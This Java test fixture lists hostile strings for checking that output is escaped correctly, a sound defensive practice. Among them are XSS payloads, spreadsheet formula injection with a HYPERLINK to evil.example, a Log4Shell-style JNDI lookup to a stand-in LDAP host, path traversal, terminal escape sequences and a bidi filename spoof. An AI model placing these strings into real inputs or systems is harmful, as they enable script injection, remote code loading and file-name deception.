package org.ratecut.testing;

import java.util.List;
import java.util.stream.IntStream;

/** Names that mean something wherever they are not escaped: one list for every output. */
public final class HostileNames {

  /** No two are equal; some differ only by case. None is blank, none has more than 200 letters. */
  public static final List<String> ALL =
      List.of(
          "line\nend",
          "line\r\nend",
          "carriage\rreturn",
          "tab\tstop",
          "\u001b[31mred\u001b[0m",
          "\u001b]0;title\u0007",
          "\u009b31mred",
          "bell\u0007",
          "nul\u0000byte",
          "back\b\b\bspace",
          "delete\u007f",
          "next\u0085line",
          "line\u2028separator",
          "paragraph\u2029separator",
          "bidi\u202egpj.exe",
          "isolate\u2066late",
          "mark\u200fed",
          "zero\u200bwidth",
          "\ufeffmark",
          "tag\udb40\udc41",
          "no\ufffecharacter",
          "a|b",
          "back`tick`",
          "```",
          "~~~~",
          "![image](http://evil.example/x.png)",
          "[link](javascript:alert(1))",
          "http://evil.example/",
          "www.evil.example",
          "*bold* **bolder**",
          "_under_ __score__",
          "# heading #",
          "- item",
          "1. item",
          "> quote",
          "~~struck~~",
          "$math$",
          "trailing backslash\\",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "</title></style></svg><b>",
          "--><!--",
          "]]>",
          "&lt;&#60;&amp;",
          "\" onmouseover=\"alert(1)",
          "' onclick='alert(1)",
          "=HYPERLINK(\"http://evil.example\")",
          "+1+1",
          "-1+1",
          "@SUM(A1)",
          " =1+1",
          "\t=1+1",
          "\r=1+1",
          "\uff1d1+1",
          "quote\"comma,semicolon;",
          "..",
          "../../escape",
          "/absolute",
          "C:\\windows\\x",
          ".hidden",
          "CON",
          "nul.txt",
          "lpt1",
          "node",
          "NODE",
          "Node",
          "ends with dot.",
          "%s%n%d %",
          "${jndi:ldap://evil.example}",
          "{0}",
          " leading",
          "trailing ",
          "\u00fcml\u00e4ut \u65e5\u672c\u8a9e \ud83d\ude00",
          "x".repeat(200));

  private HostileNames() {}

  /** As many names that mean nothing anywhere. */
  public static List<String> harmless() {
    return IntStream.range(0, ALL.size()).mapToObj(i -> "name" + i).toList();
  }
}
